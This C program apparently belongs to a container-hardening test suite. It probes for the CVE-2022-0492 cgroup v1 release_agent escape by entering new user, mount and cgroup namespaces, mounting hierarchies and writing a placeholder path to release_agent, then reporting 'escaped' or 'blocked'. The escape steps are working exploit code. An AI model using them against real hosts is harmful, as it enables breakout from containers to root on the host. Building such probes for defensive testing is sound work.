/*
 * release_agent: the CVE-2022-0492 escape. A cgroup v1 hierarchy's
 * release_agent is a program the host kernel runs as root, in the host's
 * namespaces; whoever can mount a v1 hierarchy and write that file owns the
 * host. The exploit gets the mount privilege from a fresh user namespace
 * (unshare -UrmC), then writes release_agent.
 *
 *   release_agent [-U] [-m] [-C] [-n] DIR OPTS...
 *	-U  new user namespace, mapping our uid and gid to root
 *	-m  new mount namespace (made private)
 *	-C  new cgroup namespace
 *	-n  only open release_agent for writing, never write (sanity runs
 *	    against hierarchies that must not change)
 *	DIR  writable directory for the mount points
 *	OPTS cgroup mount options, one hierarchy each: "freezer",
 *	     "none,name=systemd"...
 *
 * One line per step: "unshare-user ok|E..", "map-root ok|E..", "unshare ok|E..", "mount OPTS ok|E..",
 * "open OPTS ok|E..", "write OPTS ok|E.."; last "RESULT escaped" if a
 * release_agent was written (or, with -n, could be opened for writing),
 * else "RESULT blocked". Mount points are unmounted and removed again.
 *
 * Build: cc -static -O2 -o release_agent release_agent.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAYLOAD "/ward-cve-2022-0492-payload"

static const char *ename(int e)
{
	const char *n = e ? strerrorname_np(e) : "ok";

	return n ? n : "E?";
}

static int write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, s, strlen(s));
	close(fd);
	return n == (ssize_t)strlen(s) ? 0 : -1;
}

static int map_root(uid_t uid, gid_t gid)
{
	char buf[64];

	if (write_file("/proc/self/setgroups", "deny") < 0 && errno != ENOENT)
		return -1;
	snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)uid);
	if (write_file("/proc/self/uid_map", buf) < 0)
		return -1;
	snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)gid);
	return write_file("/proc/self/gid_map", buf);
}

int main(int argc, char **argv)
{
	int user = 0, mnt = 0, cg = 0, dry = 0, opt, escaped = 0;
	uid_t uid = getuid();
	gid_t gid = getgid();

	setvbuf(stdout, NULL, _IOLBF, 0);
	while ((opt = getopt(argc, argv, "UmCn")) != -1) {
		switch (opt) {
		case 'U': user = 1; break;
		case 'm': mnt = 1; break;
		case 'C': cg = 1; break;
		case 'n': dry = 1; break;
		default: return 2;
		}
	}
	if (argc - optind < 2) {
		fprintf(stderr, "usage: release_agent [-U] [-m] [-C] [-n] DIR OPTS...\n");
		return 2;
	}
	if (user) {
		int r = unshare(CLONE_NEWUSER);

		printf("unshare-user %s\n", ename(r < 0 ? errno : 0));
		if (r < 0)
			goto out;
		/* Mapping uid 0 needs CAP_SETFCAP outside; unmapped, we still
		 * hold every capability in the new namespace: go on. */
		r = map_root(uid, gid);
		printf("map-root %s\n", ename(r < 0 ? errno : 0));
	}
	if (mnt || cg) {
		int r = unshare((mnt ? CLONE_NEWNS : 0) | (cg ? CLONE_NEWCGROUP : 0));

		if (r == 0 && mnt)
			r = mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		printf("unshare %s\n", ename(r < 0 ? errno : 0));
		if (r < 0)
			goto out;
	}
	for (int i = optind + 1; i < argc; i++) {
		char dir[4096], file[4200];
		int fd;

		snprintf(dir, sizeof(dir), "%s/ward-cg-XXXXXX", argv[optind]);
		if (!mkdtemp(dir)) {
			printf("mkdir %s %s\n", argv[i], ename(errno));
			continue;
		}
		if (mount("cgroup", dir, "cgroup", 0, argv[i]) < 0) {
			printf("mount %s %s\n", argv[i], ename(errno));
			rmdir(dir);
			continue;
		}
		printf("mount %s ok\n", argv[i]);
		snprintf(file, sizeof(file), "%s/release_agent", dir);
		fd = open(file, O_WRONLY | O_CLOEXEC);
		printf("open %s %s\n", argv[i], ename(fd < 0 ? errno : 0));
		if (fd >= 0) {
			if (dry) {
				escaped = 1;
			} else {
				ssize_t n = write(fd, PAYLOAD, strlen(PAYLOAD));

				printf("write %s %s\n", argv[i], ename(n < 0 ? errno : 0));
				if (n > 0)
					escaped = 1;
			}
			close(fd);
		}
		umount2(dir, MNT_DETACH);
		rmdir(dir);
	}
out:
	printf("RESULT %s\n", escaped ? "escaped" : "blocked");
	return escaped ? 0 : 1;
}
